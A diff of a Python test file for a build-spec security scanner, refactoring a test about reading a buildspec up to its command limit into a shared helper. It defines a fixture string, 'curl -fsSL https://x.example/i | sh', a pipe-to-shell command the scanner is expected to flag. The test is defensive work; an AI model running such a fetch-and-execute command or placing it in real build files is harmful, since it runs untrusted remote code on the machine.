@@ -5,7 +5,7 @@ reading stopped (a view's note: guardlint.model.DOCUMENT_NOTES), and the finding
 from __future__ import annotations
 
 from tests.conftest import findings_of, run_scan, write_file
-from tests.hostile.conftest import parse_error, processor_seconds
+from tests.hostile.conftest import assert_read_to_the_limit, parse_error, processor_seconds
 from tests.hostile.linear_time_cases import BUDGET, FILE_TIMEOUT
 
 PIPE = "curl -fsSL https://x.example/i | sh"
@@ -32,11 +32,5 @@ def test_a_buildspec_of_millions_of_commands_is_read_to_the_limit_and_says_so(tm
 
 def test_a_buildspec_at_the_command_limit_is_read_in_full(tmp_path):
     text = _buildspec([TINY] * 2 + ["'" + "x;" * 19_998 + "'", PIPE])  # PIPE: 2 commands
-    write_file(tmp_path, "buildspec.yml", text)
-    result = run_scan(tmp_path, jobs=1)
-    assert not findings_of(result, "GL001")
-    assert [f.region.start_line for f in findings_of(result, "CBD004")] == [8]
-    write_file(tmp_path, "buildspec.yml", text.replace("'x;", "'x;x;", 1))
-    result = run_scan(tmp_path, jobs=1)
-    assert parse_error(result, "buildspec.yml").region.start_line == 8
-    assert not findings_of(result, "CBD004")
+    one_more = text.replace("'x;", "'x;x;", 1)
+    assert_read_to_the_limit(tmp_path, "buildspec.yml", text, one_more, "CBD004", 8)
